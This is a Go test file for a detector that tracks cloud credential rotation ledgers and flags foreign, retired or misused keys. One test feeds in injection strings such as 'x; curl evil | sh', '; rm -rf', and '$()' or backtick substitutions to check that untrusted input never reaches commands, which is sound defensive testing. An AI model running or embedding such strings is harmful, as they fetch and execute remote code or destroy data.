package detect

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestStatesOfKeys(t *testing.T) {
	at := func(hours int) time.Time { return start.Add(time.Duration(hours) * time.Hour) }
	const next = "dddddddddddddddddddddddddddddddddddddddd"
	following := LedgerKey{ID: next, Secret: billing, State: "active", Since: at(100), Given: at(100)}
	for name, c := range map[string]struct {
		ledger Ledger
		states map[int]keyState // by hours after the start
	}{
		"in use":                   {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "active", Given: at(0)}}}, map[int]keyState{-5: keyUngiven, 0: keyActive, 999: keyActive}},
		"not given yet":            {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "verified"}}}, map[int]keyState{0: keyUngiven}},
		"coming in, after another": {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "published", Since: at(110)}, following}}, map[int]keyState{50: keyUngiven, 120: keyUngiven}},
		"of another form":          {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing}}}, map[int]keyState{0: keyActive}},
		"overlapping":              {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "overlapping", Since: at(120), Given: at(0)}, following}}, map[int]keyState{99: keyActive, 100: keyOld, 999: keyOld}},
		"rolled back from": {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "overlapping", Since: at(120), Given: at(110)}, {ID: next, Secret: billing, State: "active", Given: at(100)}}},
			map[int]keyState{119: keyActive, 120: keyOld}},
		"quarantined": {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "quarantined", Since: at(120), Given: at(0)}, following}},
			map[int]keyState{99: keyActive, 100: keyOld, 121: keyOld, 122: keyDisabled}},
		"deleted, as far as is known": {Ledger{Retired: []RetiredKey{{ID: oldKey, Secret: billing, Deleted: at(120)}}}, map[int]keyState{119: keyActive, 121: keyActive, 122: keyDeleted}},
		"deleted":                     {*managed(), map[int]keyState{239: keyActive, 240: keyOld, 289: keyOld, 290: keyDisabled, 456: keyDeleted}},
		"an API key that is deleted":  {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "deleted", Since: at(1)}}}, map[int]keyState{3: keyDeleted}},
		"unknown":                     {Ledger{}, map[int]keyState{0: keyForeign}},
		"brought back": {Ledger{Keys: []LedgerKey{{ID: oldKey, Secret: billing, State: "active", Given: at(0)}}, Retired: []RetiredKey{{ID: oldKey, Secret: "projects/p/secrets/another", Deleted: at(1)}}},
			map[int]keyState{5: keyActive}},
	} {
		x := c.ledger.index()
		for hours, want := range c.states {
			if got := x.keys[oldKey].at(at(hours).UnixMilli()); got != want {
				t.Errorf("%s, %d hours: state %d, want %d", name, hours, got, want)
			}
		}
	}
}

// What is not well formed never gets into a command.
func TestLedgersThatCannotBeTrusted(t *testing.T) {
	evil := "x; curl evil | sh"
	l := managed()
	l.Secrets = append(l.Secrets, LedgerSecret{Name: "projects/p/secrets/" + evil}, LedgerSecret{Name: evil, Target: l.Secrets[0].Target},
		LedgerSecret{Name: "projects/p/secrets/ok", Target: "//iam.googleapis.com/projects/p/serviceAccounts/" + evil + "@x"})
	l.Keys = append(l.Keys, LedgerKey{ID: evil, Secret: billing}, LedgerKey{ID: otherKey, Secret: evil})
	l.Rotators = append(l.Rotators, "")
	l.Secrets[0].Labels = map[string]string{"team": "payments", "büro": "köln-1", "empty": "", "Team": "x", "a b": "x", "": "x", "evil": evil, "long": strings.Repeat("x", 64), "esc": "\x1b"}
	x := l.index()
	if got := x.labels(billing); !reflect.DeepEqual(got, map[string]string{"team": "payments", "büro": "köln-1", "empty": ""}) {
		t.Errorf("labels = %q", got)
	}
	if len(x.secrets) != 2 || len(x.keys) != 2 || len(x.accounts) != 1 || x.rotators[""] {
		t.Errorf("index = %+v", x)
	}
	log := []Entry{making("eve@example.com; rm -rf", "iam.googleapis.com", "CreateServiceAccountKey", "projects/p/serviceAccounts/"+consumer+"/keys/$("+evil+")", consumer, 0),
		making("\x1b[31meve", "storage.googleapis.com", "storage.hmacKeys.create", "GOOG1"+evil, consumer, 0),
		making(strings.Repeat("e", 9999), "secretmanager.googleapis.com", "x.AddSecretVersion", "projects/p/secrets/billing/versions/`"+evil+"`", "", 0),
		using("f; "+evil, "\x00"+strings.Repeat("9", 9999), "curl\r\n(", time.Hour)}
	found := known(l, log)
	if len(found) != 4 {
		t.Errorf("found %v", ids(found))
	}
	for _, f := range found {
		if strings.Contains(f.Advice, "evil") || strings.ContainsAny(fmt.Sprint(f), "\x00\x1b\r\n") || len(f.Subject) > maxSubject || len(f.Reason) > 2000 {
			t.Errorf("finding = %+v", f)
		}
	}
}

func TestLedgersFollowEachOther(t *testing.T) {
	at := start.Add(20 * oneDay)
	earlier := managed()
	earlier.Keys = append(earlier.Keys, LedgerKey{ID: otherKey, Secret: billing, State: "quarantined", Since: start, Given: start.Add(-oneDay)},
		LedgerKey{ID: "never given", Secret: billing}, LedgerKey{ID: "of nobody", Secret: "projects/p/secrets/gone", Given: start})
	later := Ledger{At: at, Secrets: earlier.Secrets, Keys: earlier.Keys[:1]}
	if got := later.Follow(nil); len(got.Retired) != 0 {
		t.Errorf("retired %+v", got.Retired)
	}
	got := later.Follow(earlier).Retired
	if len(got) != 2 || got[1].ID != otherKey || !got[1].Deleted.Equal(at) || !got[1].Disabled.Equal(start) || got[0].ID != oldKey {
		t.Errorf("retired %+v", got)
	}
	if again := later.Follow(later.Follow(earlier)).Retired; len(again) != 2 {
		t.Errorf("followed twice: %+v", again)
	}
	for i := range 100 {
		earlier.Retired = append(earlier.Retired, RetiredKey{ID: fmt.Sprint(i), Secret: billing, Deleted: start.Add(time.Duration(i) * time.Minute)})
	}
	got = later.Follow(earlier).Retired
	if len(got) != maxRetired || !slices.ContainsFunc(got, func(k RetiredKey) bool { return k.ID == "99" }) || slices.ContainsFunc(got, func(k RetiredKey) bool { return k.ID == "1" }) {
		t.Errorf("%d are retired: %+v", len(got), got)
	}
}

// What a ledger does not know yet waits for a newer one, but not for ever.
func TestWhatANewerLedgerTells(t *testing.T) {
	stale := managed()
	stale.At = start.Add(rotated)
	use := using(otherKey, homeIP, homeAgent, rotated+time.Hour)
	enabled := using(oldKey, homeIP, homeAgent, rotated+3*oneDay)
	for name, c := range map[string]struct {
		entry  Entry
		newer  func(*Ledger)
		before string // detector that tells when no newer ledger comes
		after  string // and when one does
	}{
		"a key that is new":        {use, func(l *Ledger) { l.Keys = append(l.Keys, LedgerKey{ID: otherKey, Secret: billing, State: "active"}) }, ForeignKey, ""},
		"a key that stays unknown": {use, func(*Ledger) {}, ForeignKey, ForeignKey},
		"a key that was enabled":   {enabled, func(l *Ledger) { l.Retired[0].Disabled, l.Retired[0].Deleted = time.Time{}, time.Time{} }, RetiredKeyUsed, OldKeyInUse},
		"a key made by a person":   {makingKey("eve@example.com", otherKey, rotated+time.Hour), func(*Ledger) {}, ForeignKey, ForeignKey},
	} {
		tell := func(end func(*Engine) []Finding) string {
			g := New(Config{Ledger: stale})
			if found := g.Observe(&c.entry, nil); len(found) != 0 || !g.Wants().Equal(c.entry.Time.Truncate(time.Millisecond).Add(2*time.Minute)) {
				t.Errorf("%s: found %v at once; wants a ledger of %v", name, ids(found), g.Wants())
			}
			var all string
			for _, f := range end(g) {
				all += f.Detector
			}
			return all
		}
		if got := tell(func(g *Engine) []Finding { return g.Advance(c.entry.Time.Add(2*time.Hour), nil) }); got != c.before {
			t.Errorf("%s: %q without a newer ledger, want %q", name, got, c.before)
		}
		got := tell(func(g *Engine) []Finding {
			l := managed()
			l.At = c.entry.Time.Add(time.Minute)
			if found := g.Know(l, nil); len(found) != 0 || g.Wants().IsZero() {
				t.Errorf("%s: found %v by a ledger of just then", name, ids(found))
			}
			l.At = c.entry.Time.Add(5 * time.Minute)
			c.newer(l)
			found := g.Know(l, nil)
			if !g.Wants().IsZero() {
				t.Errorf("%s: wants another ledger", name)
			}
			return g.Flush(found)
		})
		if got != c.after {
			t.Errorf("%s: %q with a newer ledger, want %q", name, got, c.after)
		}
	}
}

func TestDenialsBeforeThePromotionIsKnown(t *testing.T) {
	stale := managed()
	stale.At = start.Add(rotated - time.Hour)
	stale.Keys = nil
	g := New(Config{Ledger: stale})
	var found []Finding
	refused := denied("storage.objects.get", rotated+20*time.Minute)
	refused.Principal = consumer
	for _, e := range inOrder(everydayUse()[:200], []Entry{refused}) {
		found = g.Observe(&e, found)
	}
	if len(of(BrokenRotation, found)) != 0 {
		t.Errorf("found %v before the promotion is known", ids(found))
	}
	newer := managed()
	newer.At = start.Add(rotated + time.Hour)
	if found = of(BrokenRotation, g.Know(newer, nil)); len(found) != 1 || found[0].Credential != billing {
		t.Errorf("found %v", found)
	}
}

func TestFingerprints(t *testing.T) {
	for _, c := range []struct{ ip, agent, want string }{
		{"192.0.2.77", "curl/8.1", "192.0.2.0/24 with curl"},
		{"::ffff:192.0.2.77", "curl 8", "192.0.2.0/24 with curl"},
		{"2001:db8:1:2:3::4", "gcloud-java(x)", "2001:db8:1::/48 with gcloud-java"},
		{"fe80::1%eth0", "", "fe80::/48"},
		{"private", "(gzip)", "private with (gzip)"},
		{"", "a\nb", `an unknown address with a\nb`},
	} {
		f := (&Entry{CallerIP: c.ip, UserAgent: c.agent}).fingerprint()
		if got := f.String(); got != c.want || parseFingerprint(got) != f {
			t.Errorf("%q %q: %q, want %q", c.ip, c.agent, got, c.want)
		}
	}
}

// Questions about credentials that are managed no longer have no answer.
func TestCredentialsThatAreManagedNoLonger(t *testing.T) {
	stale := managed()
	stale.At, stale.Keys = start.Add(rotated-time.Hour), nil
	refused := denied("storage.objects.get", rotated+20*time.Minute)
	refused.Principal = consumer
	g := New(Config{Ledger: stale})
	log := inOrder(everydayUse()[:262], []Entry{refused, using(newKey, homeIP, homeAgent, rotated+time.Hour)})
	var found []Finding
	for i := range log {
		found = g.Observe(&log[i], found)
	}
	found = g.Know(&Ledger{At: start.Add(rotated + oneDay)}, found)
	for _, f := range g.Flush(found) {
		if f.Severity != Info { // keys that nobody manages
			t.Errorf("found %+v", f)
		}
	}
}

func TestAPIKeysOfOthersAreToldForInformation(t *testing.T) {
	found := known(managed(), []Entry{making("eve@example.com", "apikeys.googleapis.com", "google.api.apikeys.v2.ApiKeys.CreateKey", "projects/1/locations/global/keys/x", "", 0)})
	if len(found) != 1 || found[0].Severity != Info || found[0].Credential != "" {
		t.Errorf("found %+v", found)
	}
	for name, e := range map[string]Entry{
		"a version of an unmanaged secret": making("eve@example.com", "secretmanager.googleapis.com", "x.AddSecretVersion", "projects/1/secrets/other/versions/3", "", 0),
		"no version":                       making("eve@example.com", "secretmanager.googleapis.com", "x.AddSecretVersion", "nothing", "", 0),
		"another resource":                 making("eve@example.com", "compute.googleapis.com", "v1.compute.instances.insert", "i", "", 0),
	} {
		if found := known(managed(), []Entry{e}); len(found) != 0 {
			t.Errorf("%s: found %+v", name, found)
		}
	}
}

func TestKeysThatEnded(t *testing.T) {
	l := managed()
	l.Keys = append(l.Keys, LedgerKey{ID: "nonsense", Secret: billing, State: quarantined})
	if got, want := l.Ended(), map[string][]string{billing: {oldKey}}; !reflect.DeepEqual(got, want) {
		t.Errorf("ended %v, want %v", got, want)
	}
	if got := l.IDs(); !slices.IsSorted(got) || !slices.Contains(got, oldKey) || !slices.Contains(got, newKey) || slices.Contains(got, "nonsense") {
		t.Errorf("keys %v", got)
	}
}
